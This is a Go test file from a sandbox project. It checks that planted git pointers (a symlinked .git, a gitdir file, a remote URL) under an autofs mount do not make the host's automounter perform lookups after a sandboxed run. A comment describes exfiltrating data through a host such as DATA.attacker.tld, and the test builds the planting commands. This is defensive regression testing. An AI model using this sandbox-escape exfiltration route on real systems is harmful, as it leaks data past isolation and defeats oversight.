//go:build linux

package privtests

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/testutil"
)

// Found by attack pass 56 (its third route): in the sandbox an autofs
// mount of the host is an empty read-only directory (TestAutomountNotTriggered),
// but a pointer the command left there (sub/.git -> /net/DATA.attacker.tld/x,
// a .git file naming it, a remote's URL) was looked up after the run by
// moat's git audit, and at the next run by the planner, outside the
// sandbox: the host's automounter was asked for DATA. This test is the
// automounter: after a run that plants them, and a second run, it must
// have been asked for nothing; the pointers the run made are gone.
func TestAutomountNotTriggeredByAudit(t *testing.T) {
	testutil.RequireRoot(t) // mounting autofs takes root
	f := newFixture(t)
	net := filepath.Join(f.root, "net")
	am := testutil.NewAutomounter(t, net)
	// The user's own pointer, from before the runs: the audit leaves it,
	// the next plan reads the tree it lies in.
	must(t, os.MkdirAll(filepath.Join(f.work, "old"), 0o755))
	must(t, os.WriteFile(filepath.Join(f.work, "old", ".git"), []byte("gitdir: "+net+"/k-old/x\n"), 0o644))
	time.Sleep(50 * time.Millisecond)
	plant := strings.Join([]string{
		"mkdir s1 && ln -s " + net + "/k-link/x s1/.git",
		"mkdir s2 && printf 'gitdir: %s\\n' " + net + "/k-file/x > s2/.git",
		"git init -q s3 && git -C s3 remote add origin " + net + "/k-remote/r.git",
		"echo planted",
	}, " && ")
	run := f.sandboxedSh
	am.Reset()
	got := run(plant)
	if !strings.Contains(got.out, "planted") {
		t.Fatalf("the plants were not made (exit %d):\n%s", got.code, got.out)
	}
	run("true") // the next run's plan
	time.Sleep(200 * time.Millisecond)
	if asked := am.Asked(); len(asked) > 0 {
		t.Errorf("ESCAPE: moat asked the host's automounter for %q after the run:\n%s", asked, got.out)
	}
	for _, p := range []string{"s1/.git", "s2/.git"} {
		if _, err := os.Lstat(filepath.Join(f.work, p)); err == nil {
			t.Errorf("%s, a pointer below the autofs mount the run made, stayed", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(f.work, "s3", ".git", "config")); strings.Contains(string(b), net) {
		t.Errorf("s3's config still names the autofs mount:\n%s", b)
	}
	// A lookup there asks (or this test cannot fail).
	am.Reset()
	os.Stat(filepath.Join(net, "k-direct", "x"))
	deadline := time.Now().Add(2 * time.Second)
	for len(am.Asked()) == 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if asked := am.Asked(); len(asked) != 1 || asked[0] != "k-direct" {
		t.Errorf("a lookup below the autofs mount must ask the automounter (asked %q)", asked)
	}
}
